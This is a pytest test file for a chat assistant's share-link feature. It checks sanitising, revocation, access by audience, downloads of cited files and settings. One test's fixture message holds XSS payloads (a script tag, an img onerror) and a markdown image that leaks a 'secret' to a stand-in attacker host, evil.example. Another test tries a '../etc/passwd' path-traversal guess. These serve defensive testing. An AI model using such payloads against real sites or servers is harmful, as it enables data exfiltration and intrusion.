"""Share links over real HTTP: a read-only snapshot at /share/<token>, safe to open, gone
(404) once revoked, deleted or guessed, for signed-in users only when its owner says so,
and off where the operator turns sharing off."""

from __future__ import annotations

import asyncio

import httpx
import pytest

from assistant.app.settings import load_settings
from assistant.storage.snapshots import ShareOptions, snapshot
from tests.conftest import FAKE_MODEL, start_app

USERS = "ann:ann-pw"


@pytest.fixture(scope="module")
def sharing_app(fake_server, tmp_path_factory):
    app = start_app({"OPENAI_BASE_URL": fake_server.base_url, "ASSISTANT_MODEL": FAKE_MODEL,
                     "ASSISTANT_AUTH": USERS,
                     "ASSISTANT_DATA_DIR": str(tmp_path_factory.mktemp("sharing-data"))})
    yield app
    app.close()


def shared_chat(store, owner: str, *texts: str, audience: str = "anyone",
                **options) -> tuple[str, str]:
    cid = store.create_conversation(owner)
    for i, text in enumerate(texts):
        store.add_message(owner, cid, "user" if i % 2 == 0 else "assistant", text)
    token = store.create_share(owner, cid, snapshot(store.get_conversation(owner, cid),
                                                    ShareOptions(**options)), audience)
    return cid, token


def test_a_link_shows_the_snapshot_with_the_chats_output_safety(sharing_app):
    store = sharing_app.app.store
    _, token = shared_chat(store, "user:ann", "Show me a trick",
                           "**Bold** <script>window.__pwned = 1</script> "
                           "![pixel](https://evil.example/leak.png?d=secret) <img src=x onerror=1>")
    page = httpx.get(f"{sharing_app.url}share/{token}")
    assert page.status_code == 200
    assert "<strong>Bold</strong>" in page.text and "Show me a trick" in page.text
    assert "<script>window" not in page.text and "<img src=x" not in page.text
    assert 'src="https://evil.example' not in page.text  # an outside image is only a link
    assert "default-src" in page.headers["content-security-policy"]
    assert page.headers["cache-control"] == "no-store"
    assert f"/?continue={token}" in page.text


def test_a_guessed_revoked_or_deleted_link_is_404_and_a_snapshot_never_changes(sharing_app):
    store = sharing_app.app.store
    cid, token = shared_chat(store, "user:ann", "Plan a trip", "Go to Lyon.")
    store.add_message("user:ann", cid, "user", "Added after sharing")
    page = httpx.get(f"{sharing_app.url}share/{token}")
    assert "Go to Lyon." in page.text and "Added after sharing" not in page.text
    for guess in (token[:-1] + ("y" if token[-1] == "x" else "x"), "a" * 32, "../etc/passwd", "x"):
        assert httpx.get(f"{sharing_app.url}share/{guess}").status_code == 404
    _, revoked = shared_chat(store, "user:ann", "Revoke me")
    assert store.revoke_share("user:ann", revoked)
    assert httpx.get(f"{sharing_app.url}share/{revoked}").status_code == 404
    assert store.delete_conversation("user:ann", cid)
    assert httpx.get(f"{sharing_app.url}share/{token}").status_code == 404


def test_a_cited_document_s_file_downloads_from_a_link_that_shares_documents(sharing_app):
    store, library = sharing_app.app.store, sharing_app.app.library
    cited = asyncio.run(library.add("user:ann", "tide <tables>.md", b"# Tides\n\nHigh at 6."))
    other = asyncio.run(library.add("user:ann", "private.md", b"# Private\n\nNot shared."))
    cid = store.create_conversation("user:ann")
    store.add_message("user:ann", cid, "user", "When is high tide?")
    reply = store.add_message("user:ann", cid, "assistant", "", status="streaming")
    store.update_message("user:ann", reply, "At 6 [1].", "complete", sources=[{
        "number": 1, "passage_id": 1, "document_id": cited.id, "name": cited.name,
        "page": None, "heading": "Tides", "text": "High at 6."}])
    chat = store.get_conversation("user:ann", cid)
    with_files = store.create_share("user:ann", cid, snapshot(chat, ShareOptions(documents=True)))
    without = store.create_share("user:ann", cid, snapshot(chat, ShareOptions()))

    page = httpx.get(f"{sharing_app.url}share/{with_files}")
    link = f"/share/{with_files}/files/{cited.id}"
    assert f'href="{link}" download>{cited.name}</a>' in page.text
    got = httpx.get(sharing_app.url + link.lstrip("/"))
    assert got.status_code == 200 and got.content == b"# Tides\n\nHigh at 6."
    assert got.headers["content-type"] == "application/octet-stream"
    assert got.headers["content-disposition"].startswith("attachment;")
    for refused in (f"share/{with_files}/files/{other.id}",  # not cited
                    f"share/{without}/files/{cited.id}",  # documents not ticked
                    f"share/{'x' * 32}/files/{cited.id}"):
        assert httpx.get(sharing_app.url + refused).status_code == 404
    assert "/files/" not in httpx.get(f"{sharing_app.url}share/{without}").text
    assert library.remove("user:ann", cited.id)  # the owner's deletion wins
    assert httpx.get(sharing_app.url + link.lstrip("/")).status_code == 404


def test_a_link_for_signed_in_users_asks_others_to_sign_in(sharing_app):
    _, token = shared_chat(sharing_app.app.store, "user:ann", "Members only",
                           audience="signed_in")
    url = f"{sharing_app.url}share/{token}"
    refused = httpx.get(url)
    assert refused.status_code == 403 and "Members only" not in refused.text
    with httpx.Client(base_url=sharing_app.url) as web:
        assert web.post("/login", data={"username": "ann", "password": "ann-pw"}).status_code == 200
        seen = web.get(f"share/{token}")
    assert seen.status_code == 200 and "Members only" in seen.text


def test_where_the_operator_turns_sharing_off_no_link_opens(fake_server, tmp_path):
    app = start_app({"OPENAI_BASE_URL": fake_server.base_url, "ASSISTANT_MODEL": FAKE_MODEL,
                     "ASSISTANT_SHARING": "off", "ASSISTANT_DATA_DIR": str(tmp_path)})
    try:
        _, token = shared_chat(app.app.store, "anon:x", "Hidden")
        assert httpx.get(f"{app.url}share/{token}").status_code == 404
    finally:
        app.close()


@pytest.mark.parametrize(("env", "on"), [
    ({}, True),  # a local demo
    ({"ASSISTANT_HOST": "0.0.0.0"}, False),  # public, nobody signs in
    ({"ASSISTANT_HOST": "0.0.0.0", "ASSISTANT_AUTH": USERS}, True),
    ({"ASSISTANT_HOST": "0.0.0.0", "ASSISTANT_SHARING": "on"}, True),
    ({"ASSISTANT_SHARING": "off"}, False),
])
def test_sharing_is_off_by_default_only_on_a_public_app_with_no_sign_in(env, on):
    assert load_settings([], environ=env).sharing_on is on
